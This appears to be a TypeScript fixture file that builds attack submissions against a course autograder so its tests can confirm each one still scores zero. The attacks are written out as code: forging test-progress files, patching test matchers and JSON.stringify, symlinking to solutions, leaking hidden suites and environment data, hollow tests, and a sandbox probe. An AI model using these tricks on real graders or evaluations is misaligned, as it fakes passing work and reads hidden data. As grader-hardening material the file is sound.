/**
 * Attack submissions for the demo exercise: what a student who has read grader/src might hand in
 * to raise the score of the untouched stub without doing the work. Each is the stub plus an
 * attack; fixtures.test.ts asserts that each scores exactly what the untouched stub scores (0),
 * with every report written, and that the sandbox refused what the probe tried.
 */
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { graderFile } from '../../lib/manifest.js';
import { ANALYSIS_TEMPLATE, STUB } from './demo-kit.js';

const EX = 'exercise-9-demo';

/** What an attack may know about the machine: the kit's public path and the output folder (on Gradescope both are fixed). */
export interface AttackContext {
  kitRoot: string;
  outDir: string;
}

/** The stub with `attack` run when the module loads (type-checking off, so the attack itself is not a compile error). */
function stubWith(attack: string): string {
  return `// @ts-nocheck\n${attack}\n${STUB}`;
}

function kitCopy(dir: string, memo: string): void {
  mkdirSync(path.join(dir, 'exercises', EX), { recursive: true });
  writeFileSync(path.join(dir, 'exercises', EX, 'memo.ts'), memo);
  writeFileSync(path.join(dir, 'exercises', EX, 'ANALYSIS.md'), ANALYSIS_TEMPLATE);
}

/** Rewrites the test-progress channel: finds it through the environment, /proc and /tmp, and turns every failure into a pass. */
const FORGE_PROGRESS = `import { readdirSync, readFileSync } from 'node:fs';
import { spawn } from 'node:child_process';
const found = new Set<string>();
if (process.env.CACHELAB_GRADER_PROGRESS) found.add(process.env.CACHELAB_GRADER_PROGRESS);
try {
  for (const pid of readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
    try { const m = /CACHELAB_GRADER_PROGRESS=([^\\0]+)/.exec(readFileSync('/proc/' + pid + '/environ', 'utf8')); if (m) found.add(m[1]); } catch {}
  }
} catch {}
try { for (const d of readdirSync('/tmp')) if (d.startsWith('cachelab-progress-')) found.add('/tmp/' + d + '/progress.jsonl'); } catch {}
const forger = "const fs = require('fs'); const files = " + JSON.stringify([...found]) + ";" +
  "setInterval(() => { for (const f of files) { try { const t = fs.readFileSync(f, 'utf8'); const n = t.replaceAll('\\"state\\":\\"failed\\"', '\\"state\\":\\"passed\\"'); if (n !== t) fs.writeFileSync(f, n); } catch {} } }, 2);" +
  "setTimeout(() => process.exit(0), 60000);";
if (found.size > 0) spawn(process.execPath, ['-e', forger], { detached: true, stdio: 'ignore' }).unref();`;

/** Makes every assertion pass except in tests named like the old fixed canary block. */
const SPARE_CANARY_BY_NAME = `if (process.env.VITEST) {
  const { expect } = await import('vitest');
  const spared = (name) => /canary|must fail/i.test(name ?? '');
  const threw = (fn) => { try { fn(); return false; } catch { return true; } };
  const real = {
    toBe: (a, b) => Object.is(a, b),
    toEqual: (a, b) => JSON.stringify(a) === JSON.stringify(b),
    toStrictEqual: (a, b) => JSON.stringify(a) === JSON.stringify(b),
    toThrow: (fn) => typeof fn === 'function' ? threw(fn) : true,
  };
  expect.extend(Object.fromEntries(Object.entries(real).map(([name, check]) => [name, function (received, expected) {
    return { pass: spared(this.currentTestName) ? check(received, expected) : !this.isNot, message: () => name };
  }])));
}`;

/** Replaces JSON.stringify so that the load-check runner's figures all equal their targets. */
const FORGE_FIGURES = `const realStringify = JSON.stringify;
JSON.stringify = function (value, ...rest) {
  const figures = value?.result?.figures;
  if (Array.isArray(figures)) for (const f of figures) { f.value = f.target.value; delete f.error; }
  return realStringify.call(this, value, ...rest);
};`;

/** Tries the network, the grader's processes, the output folder and the secret parameters, and says what it got. */
function probe(ctx: AttackContext): string {
  return `import { connect } from 'node:net';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
const tryConnect = (port, host) => new Promise((resolve) => {
  const s = connect(port, host);
  const done = (r) => { s.destroy(); resolve(r); };
  s.once('connect', () => done('open'));
  s.once('error', (e) => done('refused (' + e.code + ')'));
  setTimeout(() => done('refused (no answer)'), 2000);
});
const attempt = (fn) => { try { fn(); return 'open'; } catch (e) { return 'refused (' + (e.code ?? e.message) + ')'; } };
const network = await tryConnect(6379, '127.0.0.1');
const graderSeen = (() => { try { return readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).some((p) => { try { return /grade\\.ts|vitest\\.mjs/.test(readFileSync('/proc/' + p + '/cmdline', 'utf8')); } catch { return false; } }); } catch { return false; } })();
const out = attempt(() => { readdirSync(${JSON.stringify(ctx.outDir)}); writeFileSync(${JSON.stringify(path.join(ctx.outDir, 'probe.txt'))}, 'x'); });
const secret = attempt(() => readFileSync(${JSON.stringify(path.join(ctx.kitRoot, graderFile(EX, 'secret')))}, 'utf8'));
throw new Error('sandbox probe: network=' + network + '; grader-proc=' + (graderSeen ? 'open' : 'refused (not visible)') + '; out=' + out + '; secret=' + secret);`;
}

/**
 * Reads every file of the hidden suites it can reach and tries to carry their text into the report
 * through every channel: an error thrown at import with that text as message, as name and as a
 * forged stack, and values returned to the tests (which print them in their failure messages).
 */
const LEAK_HIDDEN = `import { readdirSync, readFileSync, statSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import path from 'node:path';
const grader = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../grader');
const texts: string[] = [];
const walk = (d) => { try { for (const e of readdirSync(d)) { const p = path.join(d, e); try { if (statSync(p).isDirectory()) walk(p); else texts.push(readFileSync(p, 'utf8')); } catch {} } } catch {} };
// the suite first (its path is public: lib/manifest.ts), then whatever else is there
try { texts.push(readFileSync(path.join(grader, 'exercises', '${EX}', 'suite.ts'), 'utf8')); } catch {}
walk(path.join(grader, 'exercises'));
const leak = texts.join('\\n').slice(0, 380);
globalThis.__leak = leak;`;

/** Throws what LEAK_HIDDEN read, as message, name and forged stack. */
const THROW_LEAK = `if (globalThis.__leak) {
  const e = new Error(globalThis.__leak);
  e.name = globalThis.__leak.slice(0, 120);
  e.stack = 'Error: x\\n    at /tmp/w/exercises/' + globalThis.__leak.slice(0, 60).replace(/\\s/g, '_') + ':1:1';
  throw e;
}`;

/** Reads what the load-check request could hold (argument, stdin, files, environment) and sniffs the seed from memory; throws it all. */
const LEAK_REQUEST = `import { readdirSync, readFileSync } from 'node:fs';
const found: string[] = [];
const read = (f) => { try { found.push(f + ': ' + readFileSync(f, 'utf8').slice(0, 400)); } catch {} };
if (process.argv[2]) read(process.argv[2]);
read('/proc/self/fd/0');
read('/proc/self/environ');
try { for (const d of readdirSync('/tmp')) if (d.startsWith('cachelab-load-')) read('/tmp/' + d + '/request.json'); } catch {}
const strings = new Set<string>();
const charCodeAt = String.prototype.charCodeAt;
String.prototype.charCodeAt = function (i) { if (i === 0 && this.length > 3) strings.add(String(this)); return charCodeAt.call(this, i); };
export const sniffed = () => [...found, ...strings].join(' | ').slice(0, 900);`;

/** Builders by fixture name: each writes one submission into `dir`. */
export const ATTACKS: Record<string, (dir: string, ctx: AttackContext) => void> = {
  /** The exercise folder is a link to the kit's own solution (the kit sits at a fixed, public path on Gradescope). */
  'attack-symlink-folder': (dir, ctx) => {
    mkdirSync(path.join(dir, 'exercises'), { recursive: true });
    symlinkSync(path.join(ctx.kitRoot, 'solutions', EX), path.join(dir, 'exercises', EX), 'dir');
  },
  /** The stub file is a link to the kit's solution file. */
  'attack-symlink-file': (dir, ctx) => {
    mkdirSync(path.join(dir, 'exercises', EX), { recursive: true });
    symlinkSync(path.join(ctx.kitRoot, 'solutions', EX, 'memo.ts'), path.join(dir, 'exercises', EX, 'memo.ts'));
    writeFileSync(path.join(dir, 'exercises', EX, 'ANALYSIS.md'), ANALYSIS_TEMPLATE);
  },
  /** A process started by the submission rewrites the test-progress file. */
  'attack-progress': (dir) => kitCopy(dir, stubWith(FORGE_PROGRESS)),
  /** Patched matchers that spare tests named like the canary. */
  'attack-canary-name': (dir) => kitCopy(dir, stubWith(SPARE_CANARY_BY_NAME)),
  /** A patched JSON.stringify in the load-check runner. */
  'attack-stringify': (dir) => kitCopy(dir, stubWith(FORGE_FIGURES)),
  /** Reads the hidden suites and throws or returns their text. */
  'attack-read-hidden': (dir) => kitCopy(dir, stubWith(`${LEAK_HIDDEN}\n${THROW_LEAK}`)),
  /** Reads the hidden suites and returns their text as values, so the tests' failure messages print it. */
  'attack-return-hidden': (dir) =>
    kitCopy(
      dir,
      stubWith(LEAK_HIDDEN).replace(
        'throw new Error(`TODO: Memo.get(${key})`);',
        'if (globalThis.__leak) return globalThis.__leak; throw new Error(`TODO: Memo.get(${key})`);',
      ),
    ),
  /** Reads the load request and the seed it can sniff, and throws them. */
  'attack-read-request': (dir) =>
    kitCopy(dir, stubWith(LEAK_REQUEST).replace('throw new Error(`TODO: Memo.get(${key})`);', 'throw new Error(`leak: ${sniffed()}`);')),
  /** The untouched stub with own tests that call everything inside try/catch and assert nothing (they used to earn coverage × pass share). */
  'attack-hollow-tests': (dir) => {
    kitCopy(dir, STUB);
    writeFileSync(
      path.join(dir, 'exercises', EX, 'memo.hollow.test.ts'),
      `import { it } from 'vitest';
import { Memo } from './memo.js';

it('covers get', async () => {
  const memo = new Memo({ load: async (k) => k });
  for (const k of ['a', 'b', 'a']) {
    try { await memo.get(k); } catch { /* whatever happens is fine */ }
  }
});
it('covers the constructor', () => {
  try { new Memo({ load: async (k) => k }); } catch { /* fine */ }
});
`,
    );
  },
  /** Tries what the sandbox must refuse. */
  'attack-probe': (dir, ctx) => kitCopy(dir, stubWith(probe(ctx))),
};

/** Writes every attack (or the named ones) as subfolders of `classDir`. */
export function writeAttacks(classDir: string, ctx: AttackContext, names = Object.keys(ATTACKS)): void {
  for (const name of names) ATTACKS[name]!(path.join(classDir, name), ctx);
}
